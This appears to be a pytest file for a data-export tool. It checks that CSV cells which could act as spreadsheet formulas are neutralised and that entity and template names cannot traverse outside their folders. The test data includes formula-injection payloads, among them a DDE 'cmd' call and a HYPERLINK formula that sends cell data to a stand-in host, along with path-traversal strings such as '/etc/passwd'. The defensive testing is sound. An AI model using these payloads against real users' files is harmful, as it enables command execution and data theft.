"""What people get to open: cells that are no formulas, and files that stay where they belong."""

import csv
import io
from datetime import date
from decimal import Decimal

import pyarrow.parquet as pq
import pytest

from callsheet.channels.outbox import safe
from callsheet.messages.rendering import Templates
from callsheet.settings import Settings, Source
from callsheet.snapshots.snapshot_files import _folder
from callsheet.store.export import _write_parquet
from callsheet.store.text_export import as_cell, defused, write_csv
from callsheet.vocabulary import ActionType

FORMULAS = [
    "=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "\u3000=1",
    "\ufeff=1", "\u200b=1", "\u2066=1", "\x00=1", "\u2028=1", "＝1", "＋1", "－1", "＠x",
    "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example?"&A1,"Facture")', "@import", "-",
]  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_that_a_spreadsheet_could_run_is_defused(text):
    file = io.StringIO()
    write_csv(file, ["name", text], [[text, Decimal("-12.50")]])

    header, row = csv.reader(io.StringIO(file.getvalue(), newline=""))
    assert row[0] == header[1] == f"'{text}"
    assert row[1] == "-12.50", "numbers stay numbers"


@pytest.mark.parametrize("text", ["Société =A", "a-b", "a@b.example", "'=1", "", " ", "F-1"])
def test_an_ordinary_text_stays_as_it_is(text):
    assert defused(text) == text
    assert as_cell(text) == text


def test_parquet_keeps_every_text_as_it_is(tmp_path):
    import pyarrow as pa

    _write_parquet(pa.table({"name": FORMULAS}), tmp_path / "x.parquet")
    assert pq.read_table(tmp_path / "x.parquet")["name"].to_pylist() == FORMULAS


PATHS = ["../../etc", "..", "/etc/passwd", "a/b", "a\\b", "C:\\x", "x\x00y", ".ssh", "~root", ""]


@pytest.mark.parametrize("name", PATHS)
def test_a_delivered_entity_cannot_lead_out_of_the_lake(tmp_path, name):
    place = tmp_path / _folder("erp", (name, "FR01"), date(2026, 11, 16), "0" * 64)

    assert place.resolve().is_relative_to(tmp_path / "snapshot" / "erp")
    assert "\x00" not in str(place)


@pytest.mark.parametrize("name", PATHS)
def test_an_entity_cannot_lead_out_of_the_outbox(tmp_path, name):
    place = tmp_path / "outbox" / (safe(name) or "-") / "x.eml"
    assert place.resolve().is_relative_to(tmp_path / "outbox")


def test_two_entities_never_share_a_folder():
    names = ["a/b", "a_b", "a\\b", "../a_b", "A_B"]
    assert len({safe(name) for name in names}) == len(names)


@pytest.mark.parametrize("name", [one for one in PATHS if one != "~root"] + ["-x", "a b"])
def test_a_source_with_a_path_for_a_name_is_refused(tmp_path, name):
    with pytest.raises(ValueError, match="pattern"):
        Source(name=name, mapping=tmp_path)


@pytest.mark.parametrize(
    "name", ["../../etc/passwd", "shared/mail.text", "/etc/passwd", "%2e%2e/x"]
)
def test_a_template_is_one_of_those_in_the_folder_or_none(name):
    templates = Templates.of(Settings().templates.resolve())
    assert not templates.has(ActionType.EMAIL, name, "fr")
